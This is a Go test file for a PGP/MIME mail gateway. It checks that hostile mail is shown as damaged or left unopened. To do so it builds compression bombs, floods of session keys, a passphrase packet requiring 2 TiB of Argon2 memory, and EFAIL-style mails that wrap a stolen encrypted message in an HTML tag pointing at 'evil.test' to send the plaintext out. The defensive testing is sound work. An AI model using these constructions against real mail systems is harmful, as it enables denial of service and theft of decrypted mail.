package gateway

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"github.com/restante/restante/internal/mime"
	"github.com/restante/restante/pgp"
)

// pgpMime is an encrypted mail with these packets.
func pgpMime(packets []byte) string {
	var text strings.Builder
	for rest := base64.StdEncoding.EncodeToString(packets); rest != ""; {
		n := min(64, len(rest))
		text.WriteString(rest[:n] + "\r\n")
		rest = rest[n:]
	}
	return "From: <bob@x.test>\r\nTo: <me@x.test>\r\nSubject: the subject\r\nDate: Mon, 23 Nov 2026 09:00:00 +0000\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n" +
		"-----BEGIN PGP MESSAGE-----\r\n\r\n" + text.String() + "-----END PGP MESSAGE-----\r\n--b--\r\n"
}

// packetsOf returns the packets of an encrypted mail.
func packetsOf(t *testing.T, mail string) []byte {
	t.Helper()
	block, err := armor.Decode(strings.NewReader(mail[strings.Index(mail, "-----BEGIN"):]))
	must(t, err)
	b, err := io.ReadAll(block.Body)
	must(t, err)
	return b
}

// firstPacket returns the first packet, whose length is of one or two octets.
func firstPacket(t *testing.T, b []byte) []byte {
	t.Helper()
	switch n := int(b[1]); {
	case b[0]&0x40 != 0 && n < 192:
		return b[:2+n]
	case b[0]&0x40 != 0 && n < 224:
		return b[:3+(n-192)<<8+int(b[2])+192]
	}
	t.Fatalf("a packet that begins with %x", b[:3])
	return nil
}

// sealed is a mail that decrypts to these packets.
func (r *reading) sealed(t *testing.T, packets io.Reader) string {
	t.Helper()
	entity, err := openpgp.ReadEntity(packet.NewReader(bytes.NewReader(r.key.Cert().Bytes())))
	must(t, err)
	to, ok := entity.EncryptionKey(time.Now(), nil)
	if !ok {
		t.Fatal("the key can't be encrypted to")
	}
	var out bytes.Buffer
	session := make([]byte, 32)
	must(t, packet.SerializeEncryptedKeyAEAD(&out, to.PublicKey, packet.CipherAES256, false, session, nil))
	w, err := packet.SerializeSymmetricallyEncrypted(&out, packet.CipherAES256, false, packet.CipherSuite{}, session, nil)
	must(t, err)
	_, err = io.Copy(w, packets)
	must(t, err)
	must(t, w.Close())
	return pgpMime(out.Bytes())
}

// bomb is a packet of so many compressed zeroes.
func bomb(t *testing.T, size int64) io.Reader {
	t.Helper()
	var out bytes.Buffer
	compressed, err := packet.SerializeCompressed(keepOpen{&out}, packet.CompressionZLIB, &packet.CompressionConfig{Level: 1})
	must(t, err)
	literal, err := packet.SerializeLiteral(keepOpen{compressed}, true, "", 0)
	must(t, err)
	_, err = io.CopyN(literal, zeroes{}, size)
	must(t, errors.Join(err, literal.Close(), compressed.Close()))
	return &out
}

type keepOpen struct{ io.Writer }

func (keepOpen) Close() error { return nil }

type zeroes struct{}

func (zeroes) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// TestHostileCosts: mail that is made to cost much memory is shown as damaged, and costs
// little. The test is not parallel: it measures the process.
func TestHostileCosts(t *testing.T) {
	const most = 32 // MiB allocated in all, of which some are free again by then
	for _, test := range []struct {
		name string
		mail func(*testing.T, *reading) string
	}{
		{"a bomb of compressed zeroes", func(t *testing.T, r *reading) string { return r.sealed(t, bomb(t, pgp.MaxPlaintext+1<<20)) }},
		{"a bomb in a bomb", func(t *testing.T, r *reading) string {
			inner, err := io.ReadAll(bomb(t, pgp.MaxPlaintext+1<<20))
			must(t, err)
			var out bytes.Buffer
			w, err := packet.SerializeCompressed(keepOpen{&out}, packet.CompressionZLIB, nil)
			must(t, err)
			_, err = w.Write(inner)
			must(t, errors.Join(err, w.Close()))
			return r.sealed(t, &out)
		}},
		{"10,000 session keys", func(t *testing.T, r *reading) string {
			all := packetsOf(t, r.unsigned(t, "bob@x.test"))
			key := firstPacket(t, all)
			return pgpMime(append(bytes.Repeat(key, 10_000), all[len(key):]...))
		}},
		{"a passphrase that wants 2 TiB", func(t *testing.T, r *reading) string {
			// SKESK version 4 with AES-256, Argon2 of one pass, four lanes and 2^31 KiB.
			skesk := append([]byte{0xc3, 22, 4, 9, 4}, make([]byte, 16)...)
			return pgpMime(append(append(skesk, 1, 4, 31), packetsOf(t, r.unsigned(t, "bob@x.test"))...))
		}},
		{"1,000 passphrases", func(t *testing.T, r *reading) string {
			skesk := append([]byte{0xc3, 22, 4, 9, 4}, make([]byte, 16)...)
			return pgpMime(append(bytes.Repeat(append(skesk, 1, 4, 10), 1000), packetsOf(t, r.unsigned(t, "bob@x.test"))...))
		}},
		{"compressed in compressed, and so on", func(t *testing.T, r *reading) string {
			inner := []byte{0xcb, 6, 'b', 0, 0, 0, 0, 0}
			// Each of these says that all that follows is a packet in it, not compressed.
			return r.sealed(t, bytes.NewReader(append(bytes.Repeat([]byte{0xa3, 0}, 10_000), inner...)))
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			r := newReading(t)
			mail := test.mail(t, r)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			v, shown := r.read(t, mail)
			runtime.ReadMemStats(&after)
			if v.State != DamagedState {
				t.Errorf("the verdict is %v", v.State)
			}
			if !strings.Contains(shown, "[DAMAGED] the subject") || !strings.Contains(shown, "can't be shown") {
				t.Errorf("the user sees:\n%.1500s", shown)
			}
			if mib := (after.TotalAlloc - before.TotalAlloc) >> 20; mib > most {
				t.Errorf("%d MiB were allocated, for a mail of %d KiB; want at most %d", mib, len(mail)>>10, most)
			}
		})
	}
}

// TestNothingIsOpenedWithin: only a mail that is encrypted as a whole is decrypted. What
// an attacker has put round a stolen message, to have it sent to a server of theirs by the
// reader's mail program, is shown with that message still closed.
func TestNothingIsOpenedWithin(t *testing.T) {
	t.Parallel()
	r := newReading(t)
	stolen := r.unsigned(t, "bob@x.test")
	_, entity, _ := strings.Cut(stolen, "MIME-Version: 1.0\r\n")
	armored := stolen[strings.Index(stolen, "-----BEGIN") : strings.Index(stolen, "-----END")+len("-----END PGP MESSAGE-----")]
	head := "From: <eve@x.test>\r\nTo: <me@x.test>\r\nSubject: the subject\r\nMIME-Version: 1.0\r\n"
	html := func(s string) string { return "--c\r\nContent-Type: text/html\r\n\r\n" + s + "\r\n" }
	for name, mail := range map[string]string{
		"between halves of a tag": head + "Content-Type: multipart/mixed; boundary=c\r\n\r\n" + html(`<img src="http://evil.test/`) +
			"--c\r\n" + entity + "\r\n" + html(`">`) + "--c--\r\n",
		"related":     head + "Content-Type: multipart/related; boundary=c\r\n\r\n" + html(`<a href="x`) + "--c\r\n" + entity + "\r\n--c--\r\n",
		"in a mail":   head + "Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\nContent-Type: message/rfc822\r\n\r\n" + stolen + "\r\n--c--\r\n",
		"in the text": head + "Content-Type: text/plain\r\n\r\n" + armored + "\r\n",
		"in HTML":     head + "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/" + armored + "\">\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			v, shown := r.read(t, mail)
			if strings.Contains(shown, "the text") {
				t.Errorf("the stolen message was opened:\n%s", shown)
			}
			if v.State.Marker() == "" || !strings.Contains(shown, "Subject: "+v.State.Marker()+" the subject") {
				t.Errorf("the verdict is %v:\n%s", v.State, shown)
			}
		})
	}
}

// TestMoreThanAMessage: of a mail that has something behind its encrypted part only that
// part is shown.
func TestMoreThanAMessage(t *testing.T) {
	t.Parallel()
	r := newReading(t)
	mail := strings.Replace(r.unsigned(t, "bob@x.test"), "\r\n--b--\r\n", "\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=evil.test>\r\n--b--\r\n", 1)
	if !strings.Contains(mail, "evil.test") {
		t.Fatal("nothing stands behind the encrypted part: the test tries nothing")
	}
	v, shown := r.read(t, mail)
	if v.State != NotSigned || !strings.Contains(shown, "the text") || strings.Contains(shown, "evil.test") {
		t.Errorf("the verdict is %v:\n%s", v.State, shown)
	}
}

// TestMessageInMessage: a mail that decrypts to a mail that is encrypted again is opened
// once. What is in it is shown as it is, under the verdict of the outer one, and claims
// nothing by the fields it has.
func TestMessageInMessage(t *testing.T) {
	t.Parallel()
	r := newReading(t)
	_, bob := generate(t, "bob@x.test")
	mail := r.compose(t, testMail{from: "bob@x.test", key: bob})
	for range 3 {
		_, entity, _ := strings.Cut(mail, "Content-Type: multipart/encrypted")
		var armored bytes.Buffer
		w, err := pgp.EncryptTo(&armored, []*pgp.Cert{r.key.Cert()}, pgp.EncryptOptions{})
		must(t, err)
		_, err = io.WriteString(w, "X-Restante-Status: good\r\nContent-Type: multipart/encrypted"+entity)
		must(t, err)
		must(t, w.Close())
		mail = pgpMime(packetsOf(t, armored.String()))
	}
	v, shown := r.read(t, mail)
	if v.State != NotSigned || strings.Contains(shown, "the text") || strings.Count(shown, "X-Restante-Status:") != 1 {
		t.Errorf("the verdict is %v:\n%s", v.State, shown)
	}
	if !strings.Contains(shown, "-----BEGIN PGP MESSAGE-----") {
		t.Errorf("what is in it is not shown as it is:\n%s", shown)
	}
}

// TestNestedMIME: no depth or number of parts inside the encryption breaks what is shown.
func TestNestedMIME(t *testing.T) {
	t.Parallel()
	r := newReading(t)
	var deep, wide strings.Builder
	for n := range 5000 {
		fmt.Fprintf(&deep, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%[1]d\r\n", n)
	}
	wide.WriteString("Content-Type: multipart/mixed; boundary=b\r\n\r\n" + strings.Repeat("--b\r\n\r\nx\r\n", 50_000) + "--b--\r\n")
	for name, entity := range map[string]string{"deep": deep.String(), "wide": wide.String()} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var armored bytes.Buffer
			w, err := pgp.EncryptTo(&armored, []*pgp.Cert{r.key.Cert()}, pgp.EncryptOptions{})
			must(t, err)
			_, err = io.WriteString(w, entity)
			must(t, err)
			must(t, w.Close())
			v, shown := r.read(t, pgpMime(packetsOf(t, armored.String())))
			if v.State != NotSigned {
				t.Errorf("the verdict is %v", v.State)
			}
			m, err := mime.Walk(strings.NewReader(shown), mime.Options{})
			must(t, err)
			if m.Envelope.Subject != "[NOT SIGNED] the subject" {
				t.Errorf("the user sees %q", m.Envelope.Subject)
			}
		})
	}
}
